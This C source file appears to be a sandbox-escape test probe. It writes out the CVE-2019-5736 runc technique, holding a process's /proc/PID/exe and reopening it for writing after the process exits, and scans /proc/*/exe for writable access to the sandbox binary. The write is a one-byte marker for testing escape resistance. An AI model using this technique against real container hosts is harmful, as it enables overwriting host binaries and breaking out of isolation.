/* SPDX-License-Identifier: LicenseRef-agentbox-unlicensed */
/* procexe: reach a running program's binary through /proc/PID/exe (CVE-2019-5736, runc).
 *   procexe runc PID         open /proc/PID/exe with O_PATH while PID runs, wait (up to 10 s)
 *                            for PID to end, then reopen the binary for writing through
 *                            /proc/self/fd/N and append a byte: SUCCESS when the write lands
 *   procexe scan DEV INO [PID...]
 *                            every /proc/N/exe this process can see, and /proc/PID/exe for each
 *                            PID given: open with O_PATH, O_RDONLY and O_WRONLY; SUCCESS when
 *                            any open reaches the file DEV:INO (the target: the agentbox binary) */
#include "escape.h"

#include <dirent.h>
#include <signal.h>
#include <sys/stat.h>
#include <time.h>

static int hits;

static void try_exe(const char *pid, dev_t dev, ino_t ino)
{
	static const struct {
		int flags;
		const char *name;
	} modes[] = {{O_PATH, "O_PATH"}, {O_RDONLY, "O_RDONLY"}, {O_WRONLY, "O_WRONLY"}};
	char path[64], link[512];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	info("%s -> %s (%s)", path, n > 0 ? link : "-", n > 0 ? "readlink ok" : errname(errno));
	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		struct stat st;
		int fd = open(path, modes[i].flags | O_CLOEXEC);
		if (fd < 0) {
			info("  open %s %s: %s", path, modes[i].name, errname(errno));
			continue;
		}
		if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
			info("  open %s %s: REACHED the target binary", path, modes[i].name);
			hits++;
		} else {
			info("  open %s %s: ok (another file)", path, modes[i].name);
		}
		close(fd);
	}
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "runc")) {
		pid_t pid = (pid_t)atoi(argv[2]);
		char path[64];
		int fd, wfd;
		snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
		if ((fd = open(path, O_PATH | O_CLOEXEC)) < 0)
			failed(errno, "open %s O_PATH", path);
		info("holding %s; waiting for %d to end", path, (int)pid);
		for (int i = 0; i < 1000 && kill(pid, 0) == 0; i++)
			nanosleep(&(struct timespec){0, 10000000}, NULL);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if ((wfd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0)
			failed(errno, "reopen the binary for writing");
		if (write(wfd, "X", 1) != 1)
			failed(errno, "write the binary");
		success("appended to the binary of %s through /proc/%s/exe", argv[2], argv[2]);
	}
	if (argc >= 4 && !strcmp(argv[1], "scan")) {
		dev_t dev = (dev_t)strtoull(argv[2], NULL, 10);
		ino_t ino = (ino_t)strtoull(argv[3], NULL, 10);
		DIR *d = opendir("/proc");
		struct dirent *de;
		for (int i = 4; i < argc; i++) {
			char dir[64];
			snprintf(dir, sizeof(dir), "/proc/%s", argv[i]);
			info("%s %s", dir, access(dir, F_OK) == 0 ? "EXISTS" : "is absent");
			try_exe(argv[i], dev, ino);
		}
		if (!d)
			failed(errno, "opendir /proc");
		while ((de = readdir(d)))
			if (de->d_name[0] >= '1' && de->d_name[0] <= '9')
				try_exe(de->d_name, dev, ino);
		closedir(d);
		if (hits)
			success("%d opens reached the target binary", hits);
		failed(EACCES, "no /proc/*/exe reached the target binary");
	}
	usage("procexe runc PID | procexe scan DEV INO [PID...]");
}
